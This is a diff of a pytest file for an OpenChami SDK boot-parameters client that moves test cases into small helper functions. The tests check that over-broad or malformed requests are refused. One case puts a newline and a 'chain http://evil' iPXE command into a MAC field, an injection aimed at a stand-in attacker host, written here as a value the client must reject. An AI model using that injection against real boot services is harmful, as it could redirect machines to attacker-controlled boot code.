@@ -7,6 +7,7 @@ from typing import Any
 
 import httpx
 import pytest
+from _pytest.mark.structures import ParameterSet
 
 from openchami_sdk import bss
 
@@ -38,20 +39,30 @@ def chosen(**fields: Any) -> bss.BootParametersSelection:
     return bss.BootParametersSelection(**fields)
 
 
+def case(call: Call, id: str) -> ParameterSet:
+    """A call, and its name in the test's own."""
+    return pytest.param(call, id=id)
+
+
+def meant(call: Call, body: bytes) -> tuple[Call, bytes]:
+    """A call, and the body that it sends."""
+    return call, body
+
+
 @pytest.mark.parametrize(
     "call",
     [
-        pytest.param(lambda c: c.bootparameters.set(wanted()), id="PUT of every node"),
-        pytest.param(lambda c: c.bootparameters.set(wanted(hosts=[])), id="PUT, empty list"),
-        pytest.param(lambda c: c.bootparameters.set(wanted(nids=[0])), id="PUT, nid 0"),
-        pytest.param(lambda c: c.bootparameters.set(wanted(macs=[""])), id="PUT, no MAC"),
-        pytest.param(lambda c: c.bootparameters.update(wanted()), id="PATCH of every node"),
-        pytest.param(lambda c: c.bootparameters.update(wanted(hosts=[""])), id="PATCH, no xname"),
-        pytest.param(lambda c: c.bootparameters.delete(chosen()), id="DELETE of nothing"),
-        pytest.param(lambda c: c.bootparameters.delete(chosen(nids=[0])), id="DELETE, nid 0"),
-        pytest.param(lambda c: c.bootparameters.delete(chosen(macs=[""])), id="DELETE, no MAC"),
-        pytest.param(lambda c: c.bootparameters.delete(chosen(kernel="k")), id="DELETE by image"),
-        pytest.param(
+        case(lambda c: c.bootparameters.set(wanted()), id="PUT of every node"),
+        case(lambda c: c.bootparameters.set(wanted(hosts=[])), id="PUT, empty list"),
+        case(lambda c: c.bootparameters.set(wanted(nids=[0])), id="PUT, nid 0"),
+        case(lambda c: c.bootparameters.set(wanted(macs=[""])), id="PUT, no MAC"),
+        case(lambda c: c.bootparameters.update(wanted()), id="PATCH of every node"),
+        case(lambda c: c.bootparameters.update(wanted(hosts=[""])), id="PATCH, no xname"),
+        case(lambda c: c.bootparameters.delete(chosen()), id="DELETE of nothing"),
+        case(lambda c: c.bootparameters.delete(chosen(nids=[0])), id="DELETE, nid 0"),
+        case(lambda c: c.bootparameters.delete(chosen(macs=[""])), id="DELETE, no MAC"),
+        case(lambda c: c.bootparameters.delete(chosen(kernel="k")), id="DELETE by image"),
+        case(
             lambda c: c.bootparameters.delete(chosen(hosts=["x0c0s0b0n0"], initrd="i")),
             id="DELETE of a node and an image",
         ),
@@ -69,13 +80,13 @@ def test_what_would_hit_everything_is_refused(
 @pytest.mark.parametrize(
     ("call", "body"),
     [
-        (lambda c: c.bootparameters.set(wanted(), every_node=True), b'{"params":"quiet"}'),
-        (lambda c: c.bootparameters.update(wanted(), every_node=True), b'{"params":"quiet"}'),
-        (
+        meant(lambda c: c.bootparameters.set(wanted(), every_node=True), b'{"params":"quiet"}'),
+        meant(lambda c: c.bootparameters.update(wanted(), every_node=True), b'{"params":"quiet"}'),
+        meant(
             lambda c: c.bootparameters.delete(chosen(nids=[0]), every_match=True),
             b'{"nids":[0]}',
         ),
-        (
+        meant(
             lambda c: c.bootparameters.delete(chosen(kernel="k"), every_match=True),
             b'{"kernel":"k"}',
         ),
@@ -92,24 +103,24 @@ def test_who_means_it_can_say_so(
 @pytest.mark.parametrize(
     "call",
     [
-        pytest.param(lambda c: c.bootparameters.create(wanted(hosts=["Default"])), id="POST, tag"),
-        pytest.param(lambda c: c.bootparameters.create(wanted(hosts=["x1c0s0b0"])), id="POST, BMC"),
-        pytest.param(lambda c: c.bootparameters.set(wanted(hosts=["a b"])), id="PUT, blank"),
-        pytest.param(lambda c: c.bootparameters.set(wanted(hosts=["a'b"])), id="PUT, quote"),
-        pytest.param(
+        case(lambda c: c.bootparameters.create(wanted(hosts=["Default"])), id="POST, tag"),
+        case(lambda c: c.bootparameters.create(wanted(hosts=["x1c0s0b0"])), id="POST, BMC"),
+        case(lambda c: c.bootparameters.set(wanted(hosts=["a b"])), id="PUT, blank"),
+        case(lambda c: c.bootparameters.set(wanted(hosts=["a'b"])), id="PUT, quote"),
+        case(
             lambda c: c.bootparameters.update(wanted(macs=["02-00-00-00-00-01"])), id="PATCH, MAC"
         ),
-        pytest.param(
+        case(
             lambda c: c.bootparameters.update(wanted(hosts=["a\n"]), every_node=True),
             id="PATCH, meant, newline",
         ),
-        pytest.param(lambda c: c.bootparameters.delete(chosen(nids=[-1])), id="DELETE, nid -1"),
-        pytest.param(lambda c: c.bootparameters.list(name="a,b"), id="GET, comma"),
-        pytest.param(lambda c: c.hosts.list(mac=["zz"]), id="GET hosts, MAC"),
-        pytest.param(
+        case(lambda c: c.bootparameters.delete(chosen(nids=[-1])), id="DELETE, nid -1"),
+        case(lambda c: c.bootparameters.list(name="a,b"), id="GET, comma"),
+        case(lambda c: c.hosts.list(mac=["zz"]), id="GET hosts, MAC"),
+        case(
             lambda c: c.bootscript.get(mac="02:00:00:00:00:01\nchain http://evil"), id="script, MAC"
         ),
-        pytest.param(lambda c: c.bootscript.get_data(nid=0), id="script data, nid 0"),
+        case(lambda c: c.bootscript.get_data(nid=0), id="script data, nid 0"),
     ],
 )
 def test_malformed_names_are_refused(
